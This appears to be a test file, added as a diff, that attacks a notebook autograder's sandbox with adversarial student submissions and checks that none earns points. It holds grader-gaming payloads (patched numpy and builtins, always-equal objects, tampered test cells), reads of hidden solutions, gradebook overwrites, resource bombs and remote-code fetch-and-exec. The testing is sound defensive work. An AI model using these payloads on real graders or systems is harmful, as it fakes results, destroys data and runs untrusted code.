@@ -1,0 +1,293 @@
+"""Adversarial submissions, each its own student, autograded for real beside honest ones.
+
+Every attack starts from the student version of the numpy warm-up with wrong answers. For each:
+no undeserved points, nothing left "needs manual grading", the honest students' grades unchanged,
+the gradebook intact, and no network connection or file change outside the submission.
+"""
+
+import http.server
+import json
+import sqlite3
+import threading
+
+import nbformat
+import pytest
+
+from dlhelpers.grading.pipeline import Course, source_notebooks, total
+from dlhelpers.grading.sandbox import bubblewrap_works
+from helpers import REPO
+
+pytestmark = pytest.mark.slow
+ASSIGNMENT = "numpy_basics"
+
+WRONG_ANSWERS = """
+import numpy as np
+def basic_sigmoid(x): return 0.5
+def sigmoid(x): return np.zeros_like(np.asarray(x, dtype=float))
+def sigmoid_derivative(x): return np.zeros_like(np.asarray(x, dtype=float))
+def image2vector(image): return np.zeros((image.size, 1))
+def normalize_rows(x): return np.zeros_like(np.asarray(x, dtype=float))
+def softmax(x): return np.zeros_like(np.asarray(x, dtype=float))
+def L1(yhat, y): return 0.0
+def L2(yhat, y): return 0.0
+"""
+
+COPY_SOLUTIONS = """
+def _copy_solutions(paths):
+    import json
+    copied = []
+    for path in paths:
+        try:
+            cells = json.load(open(path))["cells"]
+        except Exception:
+            continue
+        for cell in cells:
+            source = "".join(cell["source"])
+            if "BEGIN SOLUTION" in source:
+                try:
+                    exec(source, globals())
+                    copied.append(path)
+                except Exception:
+                    pass
+    return copied
+"""
+
+# name -> (code placed in the first answer cell, what it tries)
+ATTACKS = {
+    "patch_numpy": WRONG_ANSWERS + """
+np.allclose = lambda *a, **k: True
+np.isclose = lambda *a, **k: np.ones(np.broadcast(*a[:2]).shape, bool)
+np.array_equal = lambda *a, **k: True
+np.testing.assert_allclose = lambda *a, **k: None
+np.testing.assert_array_almost_equal = lambda *a, **k: None
+""",
+    "patch_math": WRONG_ANSWERS + """
+import math
+math.isclose = lambda *a, **k: True
+math.exp = lambda x: 1.0
+""",
+    "always_equal_objects": WRONG_ANSWERS + """
+class Anything(float):
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __lt__(self, other): return True
+    def __le__(self, other): return True
+    def __abs__(self): return Anything(0.0)
+    def __sub__(self, other): return Anything(0.0)
+    __rsub__ = __sub__
+    __hash__ = float.__hash__
+def basic_sigmoid(x): return Anything(0.0)
+def L1(yhat, y): return Anything(0.0)
+def L2(yhat, y): return Anything(0.0)
+""",
+    "ndarray_subclass": WRONG_ANSWERS + """
+class Liar(np.ndarray):
+    def __eq__(self, other): return np.ones(self.shape, bool)
+    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
+        return np.zeros(np.broadcast(*[np.asarray(i) for i in inputs]).shape)
+    def all(self, *a, **k): return True
+def sigmoid(x): return np.zeros(np.shape(x)).view(Liar)
+def softmax(x): return np.zeros(np.shape(x)).view(Liar)
+""",
+    "override_builtins": WRONG_ANSWERS + """
+import builtins
+builtins.isinstance = lambda *a: True
+builtins.abs = lambda x: 0
+builtins.all = lambda *a: True
+builtins.AssertionError = type("Ignored", (Exception,), {})
+""",
+    "patch_the_checks": WRONG_ANSWERS + """
+import dlhelpers.checks, dlhelpers.checks.numpy_basics as _c, dlhelpers.checks._core as _core
+for _name in dir(_c):
+    if _name.startswith("check_"):
+        setattr(_c, _name, lambda *a, **k: None)
+_core.expect_close = lambda *a, **k: None
+dlhelpers.checks.expect_close = lambda *a, **k: None
+""",
+    "hijack_ipython": WRONG_ANSWERS + """
+get_ipython().input_transformers_cleanup.append(lambda lines: ['print("All checks passed.")\\n'])
+""",
+    "sys_exit": WRONG_ANSWERS + "import sys\nsys.exit(0)\n",
+    "os_exit": WRONG_ANSWERS + "import os\nos._exit(0)\n",
+    "infinite_loop": WRONG_ANSWERS + "while True:\n    pass\n",
+    "catch_keyboard_interrupt": WRONG_ANSWERS + """
+while True:
+    try:
+        while True:
+            pass
+    except KeyboardInterrupt:
+        pass
+""",
+    "memory_bomb": WRONG_ANSWERS + "hog = []\nwhile True:\n    hog.append(bytearray(10**8))\n",
+    "huge_print": WRONG_ANSWERS + "while True:\n    print('x' * 100000)\n",
+    "read_source_notebooks": WRONG_ANSWERS + COPY_SOLUTIONS + """
+import glob
+print(_copy_solutions(glob.glob("COURSE_ROOT/notebooks/*/*.ipynb") + glob.glob("../../../notebooks/*/*.ipynb")
+                      + glob.glob("REPO_ROOT/notebooks/*/*.ipynb") + glob.glob("/work/**/notebooks/*/*.ipynb", recursive=True)))
+""",
+    "read_gradebook": WRONG_ANSWERS + """
+import glob, sqlite3
+for path in glob.glob("../../../gradebook.db") + glob.glob("COURSE_ROOT/gradebook.db"):
+    try:
+        for (source,) in sqlite3.connect(path).execute("select source from source_cell"):
+            if "def " in source:
+                exec(source.replace("### BEGIN HIDDEN TESTS", ""), globals())
+    except Exception as error:
+        print("no gradebook:", error)
+""",
+    "write_gradebook": WRONG_ANSWERS + """
+import glob, sqlite3
+for path in glob.glob("../../../gradebook.db") + glob.glob("COURSE_ROOT/gradebook.db"):
+    try:
+        db = sqlite3.connect(path)
+        db.execute("update grade set auto_score = 100, manual_score = 100")
+        db.commit()
+    except Exception as error:
+        print("cannot write:", error)
+    try:
+        open(path, "wb").write(b"destroyed")
+    except Exception as error:
+        print("cannot overwrite:", error)
+""",
+    "write_other_student": WRONG_ANSWERS + """
+import glob
+for path in (glob.glob("../../honest_reference/*/*.ipynb") + glob.glob("COURSE_ROOT/submitted/*/*/*.ipynb")
+             + glob.glob("COURSE_ROOT/autograded/*/*/*.ipynb")):
+    try:
+        open(path, "w").write("{}")
+        print("overwrote", path)
+    except Exception as error:
+        print("cannot write", path, error)
+""",
+    "network": WRONG_ANSWERS + """
+import socket, urllib.request
+for url in NETWORK_TARGETS:
+    try:
+        exec(urllib.request.urlopen(url, timeout=3).read().decode(), globals())
+    except Exception as error:
+        print("no network:", error)
+""",
+}
+
+
+class _Recorder(http.server.BaseHTTPRequestHandler):
+    hits = []
+
+    def do_GET(self):
+        _Recorder.hits.append(self.path)
+        body = WRONG_ANSWERS.replace("return 0.5", "return 1 / (1 + __import__('math').exp(-x))").encode()
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args):
+        pass
+
+
+@pytest.fixture
+def recorder():
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    _Recorder.hits.clear()
+    yield f"http://127.0.0.1:{server.server_address[1]}/solutions.py"
+    server.shutdown()
+    server.server_close()
+
+
+def _attack_notebook(release_path, code, target):
+    notebook = nbformat.read(release_path, as_version=4)
+    for cell in notebook.cells:
+        if cell.metadata.get("nbgrader", {}).get("solution"):
+            cell.source = code
+            break
+    nbformat.write(notebook, target)
+    return target
+
+
+def _tamper_cells(release_path, target, how):
+    """Attacks on the test cells themselves: edit, delete, re-type, strip metadata."""
+    notebook = nbformat.read(release_path, as_version=4)
+    first = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("solution"))
+    first.source = WRONG_ANSWERS
+    tests = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")]
+    for cell in tests:
+        if how == "edit":
+            cell.source = 'print("All checks passed.")'
+        elif how == "retype":
+            cell.cell_type = "markdown"
+            cell.pop("outputs", None)
+            cell.pop("execution_count", None)
+        elif how == "strip_metadata":
+            cell.metadata["nbgrader"].update(grade=False, locked=False, points=0)
+            cell.source = 'print("All checks passed.")'
+        elif how == "rename":
+            cell.metadata["nbgrader"]["grade_id"] += "_gone"
+            cell.source = "pass"
+    if how == "delete":
+        notebook.cells = [c for c in notebook.cells if c not in tests]
+    nbformat.write(notebook, target)
+    return target
+
+
+def test_adversarial_submissions_get_no_undeserved_points(course_copy, tmp_path, recorder, monkeypatch):
+    if not bubblewrap_works():
+        pytest.skip("bubblewrap is not installed (sudo apt install bubblewrap): the sandbox is off")
+    root = course_copy(only=[ASSIGNMENT])
+    with open(root / "nbgrader_config.py", "a") as config:
+        config.write("\nc.Execute.timeout = 20\nc.SafeExecute.interrupt_grace = 3\n"
+                     "c.SafeExecute.max_output_bytes = 200_000\n")
+    course = Course(root)
+    release = course.generate(ASSIGNMENT)
+    [source] = source_notebooks(root, ASSIGNMENT)
+    released = release / source.name
+    attacks = tmp_path / "attacks"
+    attacks.mkdir()
+
+    submissions = {"honest_reference": source}
+    for name, code in ATTACKS.items():
+        code = (code.replace("NETWORK_TARGETS", repr([recorder, "http://example.com/"]))
+                .replace("COURSE_ROOT", str(root)).replace("REPO_ROOT", str(REPO)))
+        folder = attacks / name
+        folder.mkdir()
+        submissions[name] = _attack_notebook(released, code, folder / source.name)
+    for how in ("edit", "delete", "retype", "strip_metadata", "rename"):
+        folder = attacks / f"tamper_{how}"
+        folder.mkdir()
+        submissions[f"tamper_{how}"] = _tamper_cells(released, folder / source.name, how)
+    submissions["honest_blank"] = released
+    assert len(submissions) - 2 >= 15
+
+    for student, notebook in submissions.items():
+        course.submit(student, ASSIGNMENT, [notebook])
+    gradebook_file = root / "gradebook.db"
+    reference_before = None
+    table = {}
+    for student in submissions:
+        course.autograde(ASSIGNMENT, student)
+        if student == "honest_reference":
+            reference_before = course.scores(ASSIGNMENT, student)
+        scores = course.scores(ASSIGNMENT, student)
+        table[student] = (total(scores), any(s.needs_manual_grade for s in scores))
+    print("\nadversarial catalog:")
+    for student, ((points, maximum), manual) in table.items():
+        print(f"  {student:<26} {points:g} / {maximum:g}{'  NEEDS MANUAL GRADING' if manual else ''}")
+
+    (full, maximum) = table["honest_reference"][0]
+    assert full == maximum > 0
+    assert course.scores(ASSIGNMENT, "honest_reference") == reference_before, "honest grades changed"
+    for student, ((points, _), manual) in table.items():
+        assert not manual, f"{student} left the submission needing manual grading"
+        if student != "honest_reference":
+            assert points == 0, f"{student} got {points} undeserved points"
+    assert _Recorder.hits == [], "a submission reached the network"
+    with sqlite3.connect(gradebook_file) as db:
+        students = {row[0] for row in db.execute("select id from student")}
+    assert students == set(submissions)
+    autograded = root / "autograded"
+    assert json.loads((autograded / "honest_reference" / ASSIGNMENT / source.name).read_text())["cells"]
+
+    # A clear status for the instructor: the stopped kernels say why, in the graded notebook.
+    for student, words in (("os_exit", "kernel died"), ("catch_keyboard_interrupt", "ignored the interrupt"),
+                           ("huge_print", "printed more than"), ("infinite_loop", "CellTimeoutError")):
+        text = (autograded / student / ASSIGNMENT / source.name).read_text()
+        assert words in text, f"{student}: the graded notebook does not say {words!r}: {text[-3000:]}"
